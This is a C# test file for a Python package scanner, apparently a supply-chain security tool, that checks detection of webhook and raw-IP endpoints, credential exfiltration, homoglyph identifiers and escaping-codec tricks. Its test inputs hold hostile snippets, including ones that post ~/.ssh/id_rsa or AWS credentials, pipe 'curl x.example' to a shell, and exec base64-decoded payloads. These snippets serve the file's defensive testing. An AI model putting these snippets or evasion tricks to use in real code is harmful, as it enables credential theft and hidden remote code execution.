using System.Text;
using TrustCheck.Artifacts.Capabilities;
using TrustCheck.Artifacts.Findings;

namespace TrustCheck.Artifacts.Tests.Capabilities;

/// <summary>
/// Review 13, 1.3 and 1.9 and 1.2: literal rules read values of joined adjacent literals; NFKC identifiers resolve and
/// are reported; escaping codecs are decoded and reported; hostile argument strings stay fast.
/// </summary>
public sealed class LiteralAndIdentifierEvasionTests
{
    [Theory]
    [InlineData("HOOK = 'https://discord\\x2ecom/api/webhooks/123/abc'\n")]
    [InlineData("HOOK = ('https://discord.com/api/'\n        'webhooks/123/abc')\n")]
    [InlineData("HOOK = ('https://discord.com/api/'  # the API\n        # the hook\n        \"webhooks/123/abc\")\n")]
    [InlineData("HOOK = 'https://api.telegram.\\u006frg/bot1:x/sendMessage'\n")]
    public void WebhookEndpoint_EscapedOrSplit_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.WebhookEndpoint));
    }

    [Theory]
    [InlineData("C2 = 'http://45\\x2e61.136.2:8080/gate'\n")]
    [InlineData("C2 = ('http://45.61.'\n      '136.2:8080/gate')\n")]
    public void RawIpUrl_EscapedOrSplit_IsFound(string source)
    {
        Assert.Contains("45.61.136.2:8080", Assert.Single(Snippets.Hits(source, CapabilityCodes.RawIpUrl)).Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("import requests\nk = open('~/.s' 'sh/id_rsa').read()\nrequests.post(U, data=k)\n")]
    [InlineData("import requests\nk = open('~/\\x2eaws/credentials').read()\nrequests.post(U, data=k)\n")]
    public void CredentialExfiltration_EscapedOrSplit_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.CredentialExfiltration));
    }

    [Theory]
    [InlineData("x = 'http://1.2.3.4.5/'\n")]
    [InlineData("x = 'http://256.1.1.1/'\n")]
    [InlineData("x = 'xhttp://45.61.136.2/'\n")]
    [InlineData("x = ['http://45.61.', '136.2/']\n")]
    public void RawIpUrl_NotAnAddressOrNotJoined_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.RawIpUrl));
    }

    [Theory]
    [InlineData("import base64\n𝐞𝐱𝐞𝐜(base64.b64decode(x))\n", CapabilityCodes.DecodedExecution)]
    [InlineData("import ｂａｓｅ６４\nexec(ｂａｓｅ６４.ｂ６４ｄｅｃｏｄｅ(x))\n", CapabilityCodes.DecodedExecution)]
    [InlineData("import ｓｕｂｐｒｏｃｅｓｓ\nｓｕｂｐｒｏｃｅｓｓ.Popen('curl x.example | sh', shell=True)\n", CapabilityCodes.ConcealedProcess)]
    [InlineData("import os\nos.𝓼𝔂𝓼𝓽𝓮𝓶('curl x.example | sh')\n", CapabilityCodes.ConcealedProcess)]
    [InlineData("import base64\nℯval(base64.b64decode(x))\n", CapabilityCodes.DecodedExecution)]
    public void NfkcIdentifiers_ResolveAsCPythonReadsThem(string source, string code)
    {
        Assert.NotEmpty(Snippets.Hits(source, code));
    }

    [Theory]
    [InlineData("import ｓｕｂｐｒｏｃｅｓｓ\n", ArtifactSeverity.High, CodeLocation.ImportTime)]
    [InlineData("def f():\n    𝐞𝐱𝐞𝐜('1')\n", ArtifactSeverity.Medium, CodeLocation.Function)]
    public void NfkcIdentifiers_AreReported(string source, ArtifactSeverity severity, CodeLocation location)
    {
        var hit = Assert.Single(Snippets.Hits(source, CapabilityCodes.HomoglyphIdentifier));

        Assert.Equal((severity, location, false), (hit.BaseSeverity, hit.Location, hit.WeighsLocation));
        Assert.Contains("Python reads it as", hit.Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("π = 3.14159\n")]
    [InlineData("café = 1\n")]
    [InlineData("名前 = 'x'\n")]
    public void OrdinaryUnicodeIdentifiers_AreNotReported(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.HomoglyphIdentifier));
    }

    [Theory]
    [InlineData("# coding: utf-7\n#+AAo-import os+ADs- os.system('curl x.example +AHw- sh')\n", "utf-7")]
    [InlineData("# coding: UTF7\n#+AAo-import os+ADs- os.system('curl x.example +AHw- sh')\n", "utf-7")]
    [InlineData("# -*- coding: unicode_escape -*-\n#\\x0aimport os; os.system('curl x.example | sh')\n", "unicode-escape")]
    [InlineData("# coding: unicode-escape\n#\\u000aimport os; os.system('curl x.example | sh')\n", "unicode-escape")]
    [InlineData("# coding: raw_unicode_escape\n#\\u000aimport os; os.system('curl x.example | sh')\n", "raw-unicode-escape")]
    public void EscapingCodecs_AreDecodedAndReported(string source, string codec)
    {
        var hits = Snippets.Hits(source);

        var declared = Assert.Single(hits, h => h.Code == CapabilityCodes.EscapingCodec);
        Assert.Equal((ArtifactSeverity.High, false), (declared.BaseSeverity, declared.WeighsLocation));
        Assert.Contains(codec, declared.Detail, StringComparison.Ordinal);
        Assert.Contains(hits, h => h.Code == CapabilityCodes.ConcealedProcess && h.Detail.Contains("os.system", StringComparison.Ordinal));
    }

    [Fact]
    public void OrdinaryCodec_IsNotAnEscapingCodec()
    {
        Assert.Empty(Snippets.Hits("# coding: latin-1\nx = 1\n", CapabilityCodes.EscapingCodec));
    }

    [Fact]
    public void HostileProcessArguments_AreReadWithoutATimeout()
    {
        // Speed is measured by the BenchmarkDotNet suites; here: a regex timeout never escapes and nothing is invented.
        var many = string.Join(", ", Enumerable.Repeat("'powershell powershell powershell powershell " + new string(' ', 3000) + "'", 200));
        var source = $"import subprocess\nsubprocess.run([{many}])\n";

        Assert.Empty(Snippets.Hits(source, CapabilityCodes.ConcealedProcess));
    }

    [Fact]
    public void HostileLiterals_AreReadWithoutAnExceptionAndFindTheCredentialPath()
    {
        var literal = string.Concat(Enumerable.Repeat("http://1.1.1.", 20000)) + string.Concat(Enumerable.Repeat("discord.co", 20000)) + string.Concat(Enumerable.Repeat(".ssh", 20000));
        var source = $"import requests\nx = '{literal}'\nrequests.post(u)\n";

        Assert.DoesNotContain(Snippets.Hits(source), h => h.Code is CapabilityCodes.WebhookEndpoint or CapabilityCodes.RawIpUrl);
    }

    [Fact]
    public void ScanOfEscapedBytes_UsesTheDeclaredCodecsModuleScanFlags()
    {
        var scan = ModuleScanner.Scan("m.py", "m.py", Encoding.ASCII.GetBytes("# coding: utf-7\nx = 1\n"), CodeLocation.ImportTime);

        Assert.True(scan.HasEscapingCodec);
    }
}
